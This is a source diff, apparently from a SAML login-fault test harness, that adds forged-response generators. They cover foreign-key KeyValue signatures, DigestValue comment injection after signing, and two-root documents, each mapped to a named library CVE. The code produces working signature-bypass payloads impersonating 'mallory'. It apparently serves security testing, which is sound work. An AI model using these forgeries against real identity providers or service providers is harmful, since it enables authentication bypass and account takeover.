@@ -1,11 +1,13 @@
-//! The SAML attack faults (S1-S24 in docs/catalogue.md), as data, applied to the honest signed
-//! Response: the only place SAML login faults are made. Content faults re-sign the altered
-//! document with the IdP's key (a valid IdP signature over wrong content, as an IdP issuing for
-//! another SP or a stolen assertion would give); signature faults change the signature itself.
+//! The SAML attack faults (S1-S24, S30, S31 in docs/catalogue.md), as data, applied to the
+//! honest signed Response: the only place SAML login faults are made. Content faults re-sign
+//! the altered document with the IdP's key (a valid IdP signature over wrong content, as an IdP
+//! issuing for another SP or a stolen assertion would give); signature faults change the
+//! signature itself (S2 and its key-value variants, S30's comment in each DigestValue); S31 is
+//! no longer one document.
 
 use time::{Duration, OffsetDateTime};
 
-use super::signature::{SignError, sign_bare, strip_signatures};
+use super::signature::{SignError, sign_bare, sign_bare_key_info, strip_signatures};
 use super::xml::{self, instant};
 use crate::config::SignWhat;
 use crate::keys::SigningKey;
@@ -53,6 +55,23 @@ pub enum Fault {
     /// The bearer Recipient is another site's URL that merely contains the ACS URL (in its
     /// query): an SP comparing by substring takes it.
     RecipientContainingTheAcs,
+    /// S2 with the foreign public key as a bare `ds:KeyValue` (no certificate): verifiers that
+    /// let the document choose the key accept it (pysaml2 CVE-2021-21239).
+    ForeignKeyValue,
+    /// S2 with a KeyInfo carrying the IdP's real certificate and, beside it, a `ds:KeyValue` of
+    /// the foreign key that actually signed.
+    ForeignKeyValueBesideIdpCert,
+    /// S30: NameID and email altered after signing; each DigestValue starts with a comment
+    /// holding the digest of the altered element (xml-crypto CVE-2025-29775). The Assertion
+    /// alone is signed.
+    DigestCommentAssertion,
+    /// S30, the Response alone signed.
+    DigestCommentResponse,
+    /// S30, both signed.
+    DigestCommentBoth,
+    /// S31: the IdP-signed Assertion as a first root element, then a forged Response for
+    /// mallory (passport-saml CVE-2022-39299).
+    TwoRoots,
 }
 
 impl Fault {
@@ -90,6 +109,12 @@ impl Fault {
         Fault::DestinationAcsPlusALetter,
         Fault::DestinationAcsDotDotOther,
         Fault::RecipientContainingTheAcs,
+        Fault::ForeignKeyValue,
+        Fault::ForeignKeyValueBesideIdpCert,
+        Fault::DigestCommentAssertion,
+        Fault::DigestCommentResponse,
+        Fault::DigestCommentBoth,
+        Fault::TwoRoots,
     ];
 
     /// Wrapping and multi-assertion cases: the forged document also carries the honest, signed
@@ -113,7 +138,9 @@ impl Fault {
     pub fn case(self) -> &'static str {
         match self {
             Fault::Unsigned | Fault::ResponseSignedOnly => "S1",
-            Fault::ForeignKey => "S2",
+            Fault::ForeignKey | Fault::ForeignKeyValue | Fault::ForeignKeyValueBesideIdpCert => {
+                "S2"
+            }
             Fault::TamperedAfterSigning => "S3",
             Fault::Expired | Fault::NotYetValid => "S4",
             Fault::ConfirmationExpired => "S5",
@@ -141,6 +168,10 @@ impl Fault {
             Fault::CommentInNameId => "S22",
             Fault::TwoAssertions => "S23",
             Fault::Doctype | Fault::ExternalEntity => "S24",
+            Fault::DigestCommentAssertion
+            | Fault::DigestCommentResponse
+            | Fault::DigestCommentBoth => "S30",
+            Fault::TwoRoots => "S31",
         }
     }
 
@@ -179,6 +210,14 @@ impl Fault {
             Fault::DestinationAcsPlusALetter => "destination_the_acs_plus_a_letter",
             Fault::DestinationAcsDotDotOther => "destination_the_acs_dot_dot_other",
             Fault::RecipientContainingTheAcs => "recipient_containing_the_acs",
+            Fault::ForeignKeyValue => "signed_by_a_foreign_key_value_without_certificate",
+            Fault::ForeignKeyValueBesideIdpCert => {
+                "signed_by_a_foreign_key_value_beside_the_idp_certificate"
+            }
+            Fault::DigestCommentAssertion => "digest_in_a_comment_assertion_signed",
+            Fault::DigestCommentResponse => "digest_in_a_comment_response_signed",
+            Fault::DigestCommentBoth => "digest_in_a_comment_both_signed",
+            Fault::TwoRoots => "signed_assertion_then_a_second_root",
         }
     }
 }
@@ -374,6 +413,75 @@ fn assertion_wrap(
         }
         _ => return None,
     })
+}
+
+/// `<ds:KeyValue>` with the RSA public key of `key` (base64 of the big-endian modulus and
+/// exponent, XML Signature §4.4.2.2).
+fn rsa_key_value(key: &SigningKey) -> Result<String, SignError> {
+    use base64::Engine;
+    let rsa = key.pkey().rsa()?;
+    let b64 =
+        |n: &openssl::bn::BigNumRef| base64::engine::general_purpose::STANDARD.encode(n.to_vec());
+    Ok(format!(
+        "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>",
+        b64(rsa.n()),
+        b64(rsa.e())
+    ))
+}
+
+/// S30: `signed` with the forged identity put in after signing, and each `ds:DigestValue`
+/// given a first child `<!--digest of the altered element-->` before the genuine digest text.
+/// Exclusive c14n without comments drops the comment, so SignedInfo and its SignatureValue
+/// still verify; a verifier that takes the digest from the DigestValue's first child node
+/// compares the altered content with the comment and is satisfied.
+fn digest_in_comment(signed: &str, who: &Identity<'_>) -> Result<String, SignError> {
+    use base64::Engine;
+    let altered = who.forge(signed);
+    let doc = roxmltree::Document::parse(&altered)
+        .map_err(|e| SignError::Native(format!("the altered document is not XML: {e}")))?;
+    let dsig = |n: &roxmltree::Node<'_, '_>, name: &str| {
+        n.is_element()
+            && n.tag_name().name() == name
+            && n.tag_name().namespace() == Some(super::ns::DSIG)
+    };
+    // (where the DigestValue's content starts, the comment to put there)
+    let mut inserts = Vec::new();
+    for sig in doc.descendants().filter(|n| dsig(n, "Signature")) {
+        for reference in sig.descendants().filter(|n| dsig(n, "Reference")) {
+            let id = reference
+                .attribute("URI")
+                .and_then(|u| u.strip_prefix('#'))
+                .unwrap_or_default();
+            let Some(element) = doc
+                .descendants()
+                .find(|n| n.is_element() && n.attribute("ID") == Some(id))
+            else {
+                continue;
+            };
+            let own_signature = element.children().find(|c| dsig(c, "Signature"));
+            let canonical = super::c14n::canonicalize(element, own_signature.map(|s| s.id()));
+            let digest =
+                openssl::hash::hash(openssl::hash::MessageDigest::sha256(), canonical.as_bytes())?;
+            let Some(value) = reference.descendants().find(|n| dsig(n, "DigestValue")) else {
+                continue;
+            };
+            let at = value.range().start + "<ds:DigestValue>".len();
+            inserts.push((
+                at,
+                format!(
+                    "<!--{}-->",
+                    base64::engine::general_purpose::STANDARD.encode(digest)
+                ),
+            ));
+        }
+    }
+    let mut out = altered.clone();
+    // From the end, so the earlier offsets stay valid.
+    inserts.sort_by_key(|i| std::cmp::Reverse(i.0));
+    for (at, comment) in inserts {
+        out.insert_str(at, &comment);
+    }
+    Ok(out)
 }
 
 /// Applies `fault` to the honest signed Response.
@@ -676,6 +784,79 @@ pub fn apply(
             f(
                 format!("{}{evil}{}", &good[..at], &good[at..]),
                 "a second, unsigned Assertion for mallory@evil.invalid after the signed one".into(),
+            )
+        }
+        Fault::ForeignKeyValue | Fault::ForeignKeyValueBesideIdpCert => {
+            let key_value = rsa_key_value(foreign)?;
+            let (key_info, altered) = if fault == Fault::ForeignKeyValue {
+                (
+                    key_value,
+                    "signed by a key that is not the IdP's, whose public key is the only KeyInfo (ds:KeyValue/ds:RSAKeyValue, no certificate)",
+                )
+            } else {
+                (
+                    format!(
+                        "<ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data>{key_value}",
+                        idp.certificate.base64()
+                    ),
+                    "signed by a key that is not the IdP's; KeyInfo holds the IdP's own certificate and, beside it, the signing key as a ds:KeyValue",
+                )
+            };
+            f(
+                sign_bare_key_info(
+                    &evil,
+                    ids.response_id,
+                    ids.assertion_id,
+                    what,
+                    foreign.private_der(),
+                    &key_info,
+                )?,
+                altered.into(),
+            )
+        }
+        Fault::DigestCommentAssertion | Fault::DigestCommentResponse | Fault::DigestCommentBoth => {
+            let (w, which) = match fault {
+                Fault::DigestCommentAssertion => (SignWhat::Assertion, "the Assertion's"),
+                Fault::DigestCommentResponse => (SignWhat::Response, "the Response's"),
+                _ => (SignWhat::Both, "each"),
+            };
+            f(
+                digest_in_comment(&resign(&bare, w)?, who)?,
+                format!(
+                    "NameID/email changed to {FORGED_IDENTITY} after signing; {which} DigestValue starts with a comment holding the digest of the altered element, the genuine digest after it"
+                ),
+            )
+        }
+        Fault::TwoRoots => {
+            // The IdP-signed Assertion (its own enveloped signature) as the first root, then a
+            // forged Response (same InResponseTo and Destination) with an unsigned Assertion.
+            let good = resign(&bare, SignWhat::Assertion)?;
+            let (a0, a1) = assertion_span(&good).unwrap_or((0, 0));
+            let signed_assertion = &good[a0..a1];
+            let evil_assertion = evil_copy(
+                &bare,
+                ids.assertion_id,
+                &format!("id-second-{}", ids.assertion_id),
+                who,
+            );
+            let (b0, b1) = assertion_span(&bare).unwrap_or((0, 0));
+            let response = bare
+                .trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>")
+                .trim_start();
+            let shift = bare.len() - response.len();
+            let response = format!(
+                "{}{evil_assertion}{}",
+                &response[..b0.saturating_sub(shift)],
+                &response[b1.saturating_sub(shift)..]
+            )
+            .replacen(
+                &format!("ID=\"{}\"", ids.response_id),
+                &format!("ID=\"id-second-{}\"", ids.response_id),
+                1,
+            );
+            f(
+                format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{signed_assertion}{response}"),
+                "two root elements: the IdP-signed Assertion, then a forged Response (same InResponseTo and Destination) with an unsigned Assertion for mallory@evil.invalid".into(),
             )
         }
         Fault::Doctype | Fault::ExternalEntity => {
